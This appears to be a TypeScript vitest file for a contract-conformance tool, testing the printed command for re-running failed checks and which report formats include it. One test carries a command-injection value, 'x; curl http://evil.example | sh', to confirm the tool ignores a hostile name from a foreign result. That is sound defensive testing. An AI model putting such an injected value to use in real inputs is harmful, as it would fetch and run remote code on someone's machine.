import { describe, expect, test } from "vitest";
import type { CheckResult, RunResult } from "../../result/result.ts";
import { sampleResult } from "../../result/testing/sample-result.ts";
import { renderers } from "../index.ts";
import { runAgain } from "./printed-commands.ts";

const url = "http://plants.example";

/** A result of one requirement. */
function resultWith(checks: readonly CheckResult[], more: Partial<RunResult> = {}): RunResult {
  const [requirement] = sampleResult.requirements;
  if (requirement === undefined) throw new Error("The sample has no requirement");
  const { selection: _, command: _typed, ...sample } = sampleResult;
  return {
    ...sample,
    provider: { baseUrl: url },
    requirements: [{ ...requirement, id: "plant-shape", status: "failed", checks }],
    ...more,
  };
}

const failed = (id: string, more: Partial<CheckResult> = {}): CheckResult =>
  ({
    id,
    title: id,
    status: "failed",
    findings: [{ where: "", expected: "a Plant", seen: "null" }],
    exchanges: [],
    ...more,
  }) as CheckResult;

const fuzz = { cases: 600 } as RunResult["fuzz"] & object;

describe("the command that runs failed checks again", () => {
  test("names the document of the run", () => {
    const document = ["--document", "my openapi.yaml", "--overlay", "overlay.yaml"];
    const command = {
      program: "psc",
      name: "check",
      reach: [],
      document,
      request: [],
      contracts: [],
      judging: [],
    } as const;
    expect(runAgain(resultWith([failed("plant-shape/every-200")], { command }), ["plant-shape"])).toBe(
      `psc check ${url} --document 'my openapi.yaml' --overlay overlay.yaml --only plant-shape`,
    );
    expect(runAgain(resultWith([], { command }))).toContain("--document 'my openapi.yaml'");
  });

  test.each([["plant-shape"], ["plant-shape/fuzz"]])("draws cases again where only they have failed: %s", (only) => {
    const result = resultWith([failed("plant-shape/fuzz", { drawn: true })], { fuzz });
    expect(runAgain(result, [only])).toMatch(/ --only plant-shape --fuzz 600$/);
  });

  test("draws none where a check of the requirement has failed without them", () => {
    const result = resultWith([failed("plant-shape/every-200"), failed("plant-shape/fuzz", { drawn: true })], { fuzz });
    expect(runAgain(result, ["plant-shape"])).toMatch(/ --only plant-shape$/);
  });

  test("begins as this package is called, whatever name a foreign result gives the tool", () => {
    const tool = { name: "x; curl http://evil.example | sh", version: "1" };
    expect(runAgain(resultWith([], { tool }))).toMatch(/^npx plant-store-conformance check /);
  });
});

test("no report of an application that was judged in the process of its tests has a command that asks its closed port", async () => {
  const outages = [{ inFlight: [0], before: [], restarted: false }];
  const there = { ...sampleResult, outages };
  const served = { ...there, provider: { ...sampleResult.provider, inProcess: true as const } };
  const asks = /\bcurl -|conformance check |&quot;command&quot;|rerun/;
  for (const format of ["text", "html", "markdown", "junit", "ctrf", "tap", "brief"] as const) {
    const shown = await renderers[format].render(served);
    expect(shown, format).not.toMatch(asks);
  }
  expect(await renderers.text.render(there)).toMatch(asks);
  expect(await renderers.brief.render(served)).toContain("explain ");
});
